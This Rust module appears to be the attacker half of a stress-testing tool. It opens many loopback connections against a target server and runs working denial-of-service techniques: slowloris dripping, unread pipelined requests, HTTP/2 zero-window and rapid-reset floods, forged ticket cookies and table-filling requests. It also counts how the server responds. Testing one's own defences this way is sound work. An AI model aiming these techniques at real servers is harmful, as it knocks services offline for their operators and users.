//! The attackers: as many malicious connections as one machine can open.
//!
//! Each attacks in one manner, from one address in 127.0.0.0/8, and starts again a while after it
//! was cut off. What it sends is written byte by byte, as no HTTP library would.

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::rc::Rc;
use std::time::{Duration, Instant};

use clap::Args;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::LocalSet;
use tokio::time::{sleep, timeout};

use crate::trouble::{Result, While};

/// Networks that the attackers come from, and addresses in each: fifty in all.
const NETWORKS: u32 = 5;
const ADDRESSES: u32 = 10;
/// From one byte of a dripping client to the next.
const DRIP: Duration = Duration::from_secs(5);
/// How long an attacker that was cut off stays away.
const AWAY: Duration = Duration::from_secs(2);
/// How long attackers wait for an answer, if they do.
const PATIENCE: Duration = Duration::from_secs(20);
/// From one request to the next of clients that request pages: the work that the application gets
/// from them if nothing stops them.
const PAGES_EVERY: Duration = Duration::from_secs(10);
/// From one request to the next of clients whose requests cost the application little or nothing.
const CHEAP_EVERY: Duration = Duration::from_secs(2);
/// Requests on a connection whose answers are never read, and streams on one with closed windows.
const UNREAD: usize = 4;
/// Forged tickets in one head.
const FORGED: usize = 100;
/// A receive buffer that is full at once.
const SMALL_BUFFER: u32 = 2048;

/// The attackers of under-attack.
#[derive(Args, Debug)]
pub(crate) struct AttackOptions {
    #[arg(long)]
    to: SocketAddr,
    #[arg(long)]
    seconds: f64,
    #[arg(long)]
    connections: u32,
}

/// What an attacker does.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Manner {
    /// Announces a body of a megabyte and sends a byte of it now and then.
    DripBody,
    /// Sends a head, a byte now and then.
    DripHead,
    /// Connects and sends nothing, or `PRI`.
    Silence,
    /// Requests pages and reads no answer.
    ReadNothing,
    /// HTTP/2 with a window of 0.
    ZeroWindow,
    /// HTTP/2 streams that are reset as soon as they are opened.
    Reset,
    /// Requests a page and disconnects.
    Abort,
    /// Sends requests without a cookie, to get a position for each.
    Farm,
    /// Forges tickets and leases.
    Forge,
    /// Polls for positions that it does not have.
    Poll,
    /// Requests paths that no client has requested before.
    FillTables,
}

/// Of a hundred attackers, how many use each manner.
const OF_A_HUNDRED: [(Manner, u32); 11] = [
    (Manner::DripBody, 25),
    (Manner::DripHead, 10),
    (Manner::Silence, 10),
    (Manner::ReadNothing, 10),
    (Manner::ZeroWindow, 10),
    (Manner::Reset, 5),
    (Manner::Abort, 5),
    (Manner::Farm, 10),
    (Manner::Forge, 5),
    (Manner::Poll, 5),
    (Manner::FillTables, 5),
];

/// The results of one manner.
#[derive(Clone, PartialEq, Debug, Default, Serialize, Deserialize)]
pub(crate) struct Came {
    /// Connections opened, and those that were refused or cut off by the other side.
    pub(crate) opened: u64,
    pub(crate) refused: u64,
    pub(crate) cut_off: u64,
    /// Mean seconds that connections were open.
    pub(crate) open_s_mean: f64,
    /// Requests sent, if an attacker counts them.
    pub(crate) requests: u64,
    /// Answers by their status.
    pub(crate) answers: BTreeMap<u16, u64>,
}

type Counts = Rc<RefCell<BTreeMap<Manner, Came>>>;

/// Attacks, and prints the results as one line of JSON.
pub(crate) fn run(options: &AttackOptions) -> Result<bool> {
    let runtime =
        tokio::runtime::Builder::new_current_thread().enable_all().build().trouble("the runtime")?;
    let counts = Counts::default();
    let until = Instant::now() + Duration::from_secs_f64(options.seconds);
    LocalSet::new().block_on(&runtime, async {
        for number in 0..options.connections {
            let attacker = Attacker { to: options.to, number, counts: Rc::clone(&counts) };
            tokio::task::spawn_local(async move { attacker.go_on().await });
        }
        tokio::time::sleep_until(until.into()).await;
    });
    let counts = counts.borrow();
    println!("{}", serde_json::to_string(&*counts).trouble("what came of it")?);
    Ok(true)
}

/// One connection after the other, in one manner.
struct Attacker {
    to: SocketAddr,
    number: u32,
    counts: Counts,
}

/// The other side has closed the connection.
struct CutOff;

type Going<T = ()> = std::result::Result<T, CutOff>;

impl Attacker {
    async fn go_on(self) {
        // Not all at the same moment.
        sleep(Duration::from_millis(u64::from(self.number) % 1000)).await;
        let manner = manner_of(self.number);
        for round in 0_u64.. {
            let Some(stream) = self.connect(manner).await else {
                self.count(manner, |came| came.refused += 1);
                sleep(AWAY).await;
                continue;
            };
            let opened = Instant::now();
            if let Err(CutOff) = self.act(manner, stream, round).await {
                self.count(manner, |came| came.cut_off += 1);
            }
            let open_s = opened.elapsed().as_secs_f64();
            self.count(manner, |came| {
                came.opened += 1;
                came.open_s_mean += (open_s - came.open_s_mean) / came.opened as f64;
            });
            sleep(AWAY).await;
        }
    }

    fn count(&self, manner: Manner, what: impl FnOnce(&mut Came)) {
        what(self.counts.borrow_mut().entry(manner).or_default());
    }

    async fn connect(&self, manner: Manner) -> Option<TcpStream> {
        let socket = TcpSocket::new_v4().ok()?;
        if manner == Manner::ReadNothing {
            socket.set_recv_buffer_size(SMALL_BUFFER).ok()?;
        }
        socket.bind(SocketAddr::new(address_of(self.number), 0)).ok()?;
        timeout(PATIENCE, socket.connect(self.to)).await.ok()?.ok()
    }

    async fn act(&self, manner: Manner, mut stream: TcpStream, round: u64) -> Going {
        match manner {
            Manner::DripBody => {
                say(&mut stream, b"POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n").await?;
                self.count(manner, |came| came.requests += 1);
                drip(&mut stream, b"a").await
            }
            Manner::DripHead => {
                say(&mut stream, b"GET / HTTP/1.1\r\nHost: shop.example\r\nX-Drip: ").await?;
                drip(&mut stream, b"a").await
            }
            Manner::Silence => {
                if self.number.is_multiple_of(2) {
                    say(&mut stream, b"PRI").await?;
                }
                until_closed(&mut stream).await
            }
            Manner::ReadNothing => {
                let request = b"GET /browse?page=1 HTTP/1.1\r\nHost: shop.example\r\n\r\n";
                say(&mut stream, &request.repeat(UNREAD)).await?;
                self.count(manner, |came| came.requests += UNREAD as u64);
                // Without reading, only a failed write shows that the connection was closed.
                drip(&mut stream, b"\r\n").await
            }
            Manner::ZeroWindow => {
                say(&mut stream, &http2_beginning(Some(0))).await?;
                for stream_number in 0..UNREAD as u32 {
                    say(&mut stream, &http2_get(2 * stream_number + 1, "/browse?page=2")).await?;
                }
                self.count(manner, |came| came.requests += UNREAD as u64);
                until_closed(&mut stream).await
            }
            Manner::Reset => {
                say(&mut stream, &http2_beginning(None)).await?;
                for stream_number in (1_u32..).step_by(2) {
                    let mut both = http2_get(stream_number, "/favicon.ico");
                    both.extend(http2_reset(stream_number));
                    say(&mut stream, &both).await?;
                    self.count(manner, |came| came.requests += 1);
                    pass(&mut stream, CHEAP_EVERY / 4).await?;
                }
                Ok(())
            }
            Manner::Abort => {
                say(&mut stream, b"GET /browse?page=3 HTTP/1.1\r\nHost: shop.example\r\nAccept: text/html\r\n\r\n").await?;
                self.count(manner, |came| came.requests += 1);
                sleep(Duration::from_millis(50)).await;
                drop(stream);
                sleep(PAGES_EVERY).await;
                Ok(())
            }
            Manner::Farm => {
                self.ask_on(manner, stream, PAGES_EVERY, |_| {
                    "GET /login HTTP/1.1\r\nHost: shop.example\r\nAccept: text/html\r\nConnection: close\r\n\r\n".to_string()
                })
                .await
            }
            Manner::Forge => {
                self.ask_on(manner, stream, CHEAP_EVERY, |turn| {
                    let forged = "A".repeat(64 + (turn as usize % 32));
                    let places = format!("; suimon-ticket-visit={forged}").repeat(FORGED);
                    format!("GET /login HTTP/1.1\r\nHost: shop.example\r\nAccept: text/html\r\nSuimon-Ticket: {forged}\r\nCookie: suimon={forged}{places}\r\n\r\n")
                })
                .await
            }
            Manner::Poll => {
                self.ask_on(manner, stream, CHEAP_EVERY, |_| {
                    "GET /login HTTP/1.1\r\nHost: shop.example\r\nSuimon-Poll: waiting\r\n\r\n".to_string()
                })
                .await
            }
            Manner::FillTables => {
                let number = self.number;
                self.ask_on(manner, stream, CHEAP_EVERY, |turn| {
                    format!("GET /nothing/{number}/{round}/{turn} HTTP/1.1\r\nHost: shop.example\r\n\r\n")
                })
                .await
            }
        }
    }

    /// Sends a request each `every` and reads the answers, as long as the connection lasts.
    async fn ask_on(
        &self,
        manner: Manner,
        mut stream: TcpStream,
        every: Duration,
        request: impl Fn(u64) -> String,
    ) -> Going {
        for turn in 0.. {
            say(&mut stream, request(turn).as_bytes()).await?;
            self.count(manner, |came| came.requests += 1);
            let status = timeout(PATIENCE, status(&mut stream)).await.map_err(|_| CutOff)??;
            self.count(manner, |came| *came.answers.entry(status).or_default() += 1);
            pass(&mut stream, every).await?;
        }
        Ok(())
    }
}

/// Returns the manner of the attacker with this number; manners are spread evenly over the numbers.
fn manner_of(number: u32) -> Manner {
    // Coprime to a hundred, so that each hundred of attackers has them all.
    let mut place = number.wrapping_mul(37) % 100;
    for (manner, share) in OF_A_HUNDRED {
        match place.checked_sub(share) {
            Some(behind) => place = behind,
            None => return manner,
        }
    }
    unreachable!("the shares make a hundred")
}

fn address_of(number: u32) -> IpAddr {
    let at = number / 100 + number % 100 * 7;
    let (network, host) = (at % NETWORKS, at / NETWORKS % ADDRESSES);
    Ipv4Addr::new(127, 66, network as u8, 1 + host as u8).into()
}

async fn say(stream: &mut TcpStream, bytes: &[u8]) -> Going {
    match timeout(PATIENCE, stream.write_all(bytes)).await {
        Ok(Ok(())) => Ok(()),
        _ => Err(CutOff),
    }
}

/// Sends `piece` at intervals until the connection is closed.
async fn drip(stream: &mut TcpStream, piece: &[u8]) -> Going {
    loop {
        sleep(DRIP).await;
        say(stream, piece).await?;
    }
}

/// Waits until the connection is closed, whatever is received on it.
async fn until_closed(stream: &mut TcpStream) -> Going {
    let mut bytes = [0; 1024];
    while stream.read(&mut bytes).await.is_ok_and(|length| length > 0) {}
    Err(CutOff)
}

/// Waits for `time`, and discards what is received meanwhile.
async fn pass(stream: &mut TcpStream, time: Duration) -> Going {
    timeout(time, until_closed(stream)).await.unwrap_or(Ok(()))
}

/// Reads the first piece of an answer, and returns its status.
async fn status(stream: &mut TcpStream) -> Going<u16> {
    let mut bytes = [0; 4096];
    let length = stream.read(&mut bytes).await.map_err(|_| CutOff)?;
    let text = bytes[..length].get(9..12).and_then(|digits| std::str::from_utf8(digits).ok());
    text.and_then(|digits| digits.parse().ok()).ok_or(CutOff)
}

/// The preface and the settings, with a window for streams if there is one to announce (RFC 9113,
/// sections 3.4 and 6.5).
fn http2_beginning(window: Option<u32>) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let settings = window.map_or(Vec::new(), |window| {
        const INITIAL_WINDOW_SIZE: u16 = 4;
        [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat()
    });
    bytes.extend(http2_frame(4, 0, 0, &settings));
    bytes
}

/// A request without a body, its fields as literals that are not added to the dynamic table (RFC
/// 7541, section 6.2.2).
fn http2_get(stream: u32, path: &str) -> Vec<u8> {
    let literal = |name_index: u8, value: &str| [&[name_index, value.len() as u8], value.as_bytes()].concat();
    // `:method GET` and `:scheme http` are in the static table.
    let block = [vec![0x82, 0x86], literal(4, path), literal(1, "shop.example")].concat();
    const END_STREAM_AND_HEADERS: u8 = 0x5;
    http2_frame(1, END_STREAM_AND_HEADERS, stream, &block)
}

fn http2_reset(stream: u32) -> Vec<u8> {
    const CANCEL: u32 = 8;
    http2_frame(3, 0, stream, &CANCEL.to_be_bytes())
}

fn http2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    [&length.to_be_bytes()[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn a_thousand_attackers_come_from_fifty_addresses_in_all_manners() {
        let addresses: BTreeSet<IpAddr> = (0..1000).map(address_of).collect();
        assert_eq!(addresses.len(), 50);
        let mut manners = BTreeMap::new();
        for number in 0..1000 {
            *manners.entry(manner_of(number)).or_insert(0) += 1;
        }
        let wanted: BTreeMap<Manner, u32> =
            OF_A_HUNDRED.iter().map(|(it, share)| (*it, share * 10)).collect();
        assert_eq!(manners, wanted);
    }

    #[test]
    fn a_frame_of_http2_says_its_length_kind_and_stream() {
        assert_eq!(http2_reset(5), [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }
}
